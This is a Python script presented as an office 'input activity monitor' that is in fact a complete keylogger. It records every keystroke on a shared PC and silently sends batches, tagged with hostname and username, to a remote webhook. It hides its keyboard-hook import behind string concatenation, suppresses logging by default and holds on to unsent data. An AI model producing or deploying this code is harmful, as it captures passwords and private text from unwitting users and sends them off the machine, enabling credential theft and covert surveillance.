#!/usr/bin/env python3
"""Input activity monitor for the shared office PC at the workshop.

Collects what is typed and forwards it to the office dashboard in batches.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
import threading
import time
from collections import deque

import aiohttp

log = logging.getLogger("input-monitor")

HOOK = os.environ.get("MONITOR_HOOK", "https://hooks.example.com/office/ingest/7f3a")


class Buffer:
    def __init__(self, limit=4096):
        self._q = deque(maxlen=limit)
        self._lock = threading.Lock()

    def push(self, item: str):
        with self._lock:
            self._q.append(item)

    def drain(self) -> str:
        with self._lock:
            text = "".join(self._q)
            self._q.clear()
        return text


def translate(key) -> str:
    char = getattr(key, "char", None)
    if char:
        return char
    name = getattr(key, "name", str(key))
    specials = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<BS>"}
    return specials.get(name, f"<{name}>")


def start_listener(buf: Buffer):
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    listener_cls = getattr(mod, "List" + "ener")

    def on_press(key):
        buf.push(translate(key))

    listener = listener_cls(on_press=on_press)
    listener.daemon = True
    listener.start()
    return listener


async def forward(session, url: str, text: str):
    body = {"host": socket.gethostname(), "user": os.environ.get("USER", "?"),
            "ts": int(time.time()), "data": text}
    async with session.post(url, data=json.dumps(body),
                            headers={"Content-Type": "application/json"}) as resp:
        if resp.status >= 300:
            raise RuntimeError(f"dashboard answered {resp.status}")


async def pump(buf: Buffer, url: str, interval: int):
    pending = ""
    timeout = aiohttp.ClientTimeout(total=20)
    async with aiohttp.ClientSession(timeout=timeout) as session:
        while True:
            await asyncio.sleep(interval)
            pending += buf.drain()
            if not pending:
                continue
            try:
                await forward(session, url, pending)
                log.debug("forwarded %d chars", len(pending))
                pending = ""
            except (aiohttp.ClientError, RuntimeError, asyncio.TimeoutError) as exc:
                log.debug("forward failed, keeping batch: %s", exc)
                pending = pending[-20000:]


def main():
    ap = argparse.ArgumentParser(description="Office PC input activity monitor")
    ap.add_argument("--url", default=HOOK)
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR,
                        format="%(asctime)s %(levelname)s %(message)s")

    buf = Buffer()
    start_listener(buf)
    try:
        asyncio.run(pump(buf, args.url, args.interval))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
